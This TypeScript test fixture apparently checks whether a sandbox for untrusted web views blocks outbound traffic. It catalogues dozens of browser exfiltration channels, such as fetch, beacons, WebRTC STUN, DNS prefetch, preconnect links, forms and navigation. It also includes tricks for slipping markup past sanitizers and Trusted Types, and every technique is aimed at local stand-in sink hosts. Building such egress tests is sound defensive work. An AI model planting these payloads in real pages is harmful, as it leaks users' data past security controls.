// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are programs of views
/**
 * What a view may try in order to send something out. `code` has `url`, an address of a sink, `secure`, a name that leads to
 * the sink and is told it in the greeting of TLS, and `name`, which somebody would have to look up; each tells which attempt it belongs to.
 */
export interface Attempt {
  readonly name: string;
  readonly code: string;
  /** It gets out where nothing holds it: without that, an attempt that fails would show nothing. */
  readonly works: boolean;
  /** What shows that it did: its address at a server, a datagram, or its name in the log of the browser. */
  readonly sign: 'address' | 'UDP' | 'name';
}

const attempt = (name: string, code: string, works: boolean): Attempt => ({
  name,
  code,
  works,
  sign: name.startsWith('rtc') ? 'UDP' : name === 'dns-prefetch' || name === 'location-by-name' ? 'name' : 'address',
});
const works = (name: string, code: string): Attempt => attempt(name, code, true);
/** One that today's browsers do not know or do not do, or that needs what only a cage has closed elsewhere. */
const maybe = (name: string, code: string): Attempt => attempt(name, code, false);

const add = (tag: string, rest: string): string =>
  `const it = document.createElement('${tag}'); ${rest}; document.body.append(it);`;
/** Written in two parts, as a view has to. */
const LINK = `('<' + 'link rel="preconnect" href="' + secure + '">')`;

/** Attempts that leave the view where it is. All can stand in one document. */
export const ATTEMPTS: readonly Attempt[] = [
  works('fetch', 'fetch(url, { mode: "no-cors" })'),
  works('fetch-later', 'new Request(url); fetch(url, { keepalive: true, method: "POST", body: "x", mode: "no-cors" })'),
  works('xhr', 'const it = new XMLHttpRequest(); it.open("GET", url); it.send()'),
  works('websocket', 'new WebSocket(url.replace("http", "ws"))'),
  works('event-source', 'new EventSource(url)'),
  works('beacon', 'navigator.sendBeacon(url, "x")'),
  works('image', 'new Image().src = url'),
  works('image-set', add('div', 'it.style.backgroundImage = `image-set("${url}" 1x)`')),
  works('css-url', add('div', 'it.style.background = `url(${url})`')),
  works('css-import', add('style', 'it.textContent = `@import "${url}";`')),
  works('font', 'new FontFace("f", `url(${url})`).load().catch(() => undefined)'),
  works('video', add('video', 'it.src = url; it.preload = "auto"')),
  works('poster', add('video', 'it.poster = url')),
  works('audio', add('audio', 'it.src = url; it.preload = "auto"')),
  works('script', add('script', 'it.src = url')),
  works('import', 'import(url).catch(() => undefined)'),
  works('frame', add('iframe', 'it.src = url')),
  works('frame-of-text', 'document.body.insertAdjacentHTML("beforeend", `<ifr` + `ame src="${url}"></ifr` + "ame>")'),
  works('object', add('object', 'it.data = url')),
  works('embed', add('embed', 'it.src = url')),
  works('input-image', add('input', 'it.type = "image"; it.src = url')),
  works('svg-image', 'document.body.insertAdjacentHTML("beforeend", `<svg><image href="${url}"/></svg>`)'),
  works('stylesheet', add('link', 'it.rel = "stylesheet"; it.href = url')),
  works('preload', add('link', 'it.rel = "preload"; it.as = "fetch"; it.href = url')),
  works('prefetch', add('link', 'it.rel = "prefetch"; it.href = url')),
  works('preconnect', add('link', 'it.rel = "preconnect"; it.href = secure')),
  works('dns-prefetch', add('link', 'it.rel = "dns-prefetch"; it.href = `http://${name}/`')),
  works(
    'link-ns',
    'const it = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"); it.setAttribute("rel", "preconnect"); it.setAttribute("href", secure); document.head.append(it)',
  ),
  works('link-inner', `const it = document.createElement('div'); document.body.append(it); it.innerHTML = ${LINK}`),
  works('link-outer', `const it = document.createElement('div'); document.body.append(it); it.outerHTML = ${LINK}`),
  works('link-adjacent', `document.body.insertAdjacentHTML('beforeend', ${LINK})`),
  works('link-fragment', `document.body.append(document.createRange().createContextualFragment(${LINK}))`),
  works(
    'link-template',
    `const it = document.createElement('template'); it.innerHTML = ${LINK}; document.body.append(it.content)`,
  ),
  works(
    'link-parser',
    `document.body.append(document.adoptNode(new DOMParser().parseFromString(${LINK}, 'text/html').querySelector('[rel]')))`,
  ),
  works(
    'link-entity',
    'const text = `<!DOCTYPE r [<!ENTITY e "&#60;link xmlns=\'http://www.w3.org/1999/xhtml\' rel=\'preconnect\' href=\'${secure}\'/>">]><r>&e;</r>`; document.body.append(document.adoptNode(new DOMParser().parseFromString(text, "text/xml").querySelector("[rel]")))',
  ),
  works(
    'link-xml-prefix',
    'const p = "p".repeat(60); const root = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "html").documentElement; root.innerHTML = "<" + `${p}:link xmlns:${p}="http://www.w3.org/1999/xhtml" rel="preconnect" href="${secure}"/>`; document.body.append(document.adoptNode(root.firstChild))',
  ),
  works(
    'link-document',
    "const it = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement; it.setAttribute('rel', 'preconnect'); it.setAttribute('href', secure); document.body.append(it)",
  ),
  works(
    'link-set-html',
    `const it = document.createElement('div'); document.body.append(it); it.setHTMLUnsafe(${LINK})`,
  ),
  maybe(
    'link-sanitizer',
    `const it = document.createElement('div'); document.body.append(it); it.setHTML(${LINK}, { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } })`,
  ),
  maybe(
    'link-command',
    `const it = document.createElement('div'); it.contentEditable = 'true'; document.body.append(it); it.focus(); document.execCommand('insertHTML', false, ${LINK})`,
  ),
  works(
    'link-class',
    `const kind = 'x-' + name.split('.')[0]; customElements.define(kind, class extends HTMLLinkElement {}, { extends: 'link' }); const it = new (customElements.get(kind))(); it.rel = 'preconnect'; it.href = secure; document.head.append(it)`,
  ),
  works(
    'link-is',
    `const it = document.createElement({ n: 0, toString() { return ['div', 'link'][this.n++ % 2] } }); const other = document.createElement({ n: 1, toString() { return ['div', 'link'][this.n++ % 2] } }); for (const one of [it, other]) { one.setAttribute('rel', 'preconnect'); one.setAttribute('href', secure); document.head.append(one) }`,
  ),
  works(
    'link-patched-regexp',
    `const { exec, test } = RegExp.prototype; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; try { document.body.insertAdjacentHTML('beforeend', ${LINK}) } finally { Object.assign(RegExp.prototype, { exec, test }) }`,
  ),
  maybe(
    'link-xslt',
    'const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:element name="link" namespace="http://www.w3.org/1999/xhtml"><xsl:attribute name="rel">preconnect</xsl:attribute><xsl:attribute name="href">${secure}</xsl:attribute></xsl:element></xsl:template></xsl:stylesheet>`, "text/xml"); const it = new XSLTProcessor(); it.importStylesheet(sheet); document.body.append(it.transformToFragment(sheet, document))',
  ),
  maybe(
    'policy-of-its-own',
    `const it = document.createElement('div'); document.body.append(it); it.innerHTML = trustedTypes.createPolicy('mine', { createHTML: (text) => text }).createHTML(${LINK})`,
  ),
  maybe(
    'second-default-policy',
    `const it = document.createElement('div'); document.body.append(it); it.innerHTML = trustedTypes.createPolicy('default', { createHTML: (text) => text }).createHTML(${LINK})`,
  ),
  works(
    'worker',
    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`], { type: "text/javascript" })))',
  ),
  maybe('web-transport', 'new WebTransport(url.replace("http:", "https:"))'),
  maybe('service-worker', 'navigator.serviceWorker.register(url)'),
  works(
    'rtc',
    'const it = new RTCPeerConnection({ iceServers: [{ urls: url.replace("http://", "stun:").replace(/\\/.*/, "") }] }); it.createDataChannel("x"); it.createOffer().then((offer) => it.setLocalDescription(offer))',
  ),
  works(
    'rtc-of-frame',
    'const frame = document.createElement("iframe"); document.body.append(frame); const it = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: url.replace("http://", "stun:").replace(/\\/.*/, "") }] }); it.createDataChannel("x"); it.createOffer().then((offer) => it.setLocalDescription(offer))',
  ),
  maybe(
    'speculation',
    add(
      'script',
      'it.type = "speculationrules"; it.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] })',
    ),
  ),
  works('popup', 'window.open(url)'),
  works(
    'form',
    'const it = document.createElement("form"); it.action = url; it.target = "_blank"; document.body.append(it); it.submit()',
  ),
  works('link-to-tab', add('a', 'it.href = url; it.target = "_blank"; setTimeout(() => it.click())')),
  works(
    'link-with-key',
    add(
      'a',
      'it.href = url; setTimeout(() => it.dispatchEvent(new MouseEvent("click", { ctrlKey: true, bubbles: true, cancelable: true })))',
    ),
  ),
  works('ping', add('a', 'it.href = "#"; it.ping = url; setTimeout(() => it.click())')),
  maybe('attribution', add('img', 'it.setAttribute("attributionsrc", url); it.src = "data:,"')),
  maybe(
    'report',
    add('meta', 'it.httpEquiv = "Content-Security-Policy"; it.content = `img-src none; report-uri ${url}`'),
  ),
  maybe(
    'base',
    add(
      'base',
      'it.href = url; const one = document.createElement("img"); one.src = "relative"; document.body.append(one)',
    ),
  ),
];

/** Attempts by which a view goes elsewhere itself: each needs a frame of its own. */
export const DEPARTURES: readonly Attempt[] = [
  works('location', 'location.href = url'),
  works('location-by-name', 'location.replace(`http://${name}/`)'),
  works(
    'refresh',
    'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${url}">`)',
  ),
  works('open-self', 'window.open(url, "_self")'),
  works('link', 'const it = document.createElement("a"); it.href = url; document.body.append(it); it.click()'),
  maybe(
    'form-self',
    'const it = document.createElement("form"); it.action = url; document.body.append(it); it.submit()',
  ),
  works('top', 'window.top.location.href = url'),
  maybe('parent', 'window.parent.location.replace(url)'),
  maybe(
    'script-address',
    `const inner = '<script>fetch(' + JSON.stringify(url) + ', { mode: "no-cors" }); new RTCPeerConnection({ iceServers: [{ urls: ' + JSON.stringify(url.replace('http://', 'stun:').replace(/\\/.*/, '')) + ' }] }).createDataChannel("x")<\\/script>'; location.href = 'javascript:' + encodeURIComponent(JSON.stringify(inner))`,
  ),
  maybe(
    'blob',
    'location.href = URL.createObjectURL(new Blob([`<script>fetch(${JSON.stringify(url)}, { mode: "no-cors" })<\\/script>`], { type: "text/html" }))',
  ),
  maybe('data', 'location.href = "data:text/html," + encodeURIComponent(`<img src="${url}">`)'),
];

/** Tries all of these in one document, whatever becomes of the others. `run` goes before the name of each in what a sink gets. */
export function documentOf(attempts: readonly Attempt[], port: number, run: string): string {
  const tries = attempts.map(({ name, code }) => {
    const values = `const url = 'http://127.0.0.1:${port}/${run}-${name}'; const name = '${run}-${name}.sink.test'; const secure = 'https://${run}-${name}.tls.test:${port}/';`;
    return `try { ${values} ${code} } catch (error) { refused.push('${name}: ' + error) }`;
  });
  return `<!doctype html><title>hostile</title><body><p id="done">trying</p><script>
const refused = [];
${tries.map((one) => `{ ${one} }`).join('\n')}
document.getElementById('done').textContent = 'tried';
document.body.append(refused.join(' | '));
</script></body>`;
}

/** The attempts of a run that left a trace in a text. */
export function tracesOf(attempts: readonly Attempt[], run: string, text: string): string[] {
  return attempts
    .map(({ name }) => name)
    .filter(
      (name) =>
        text.includes(`${run}-${name}.sink.test`) ||
        text.includes(`${run}-${name}.tls.test`) ||
        new RegExp(`/${run}-${name}(?![\\w-])`).test(text),
    );
}
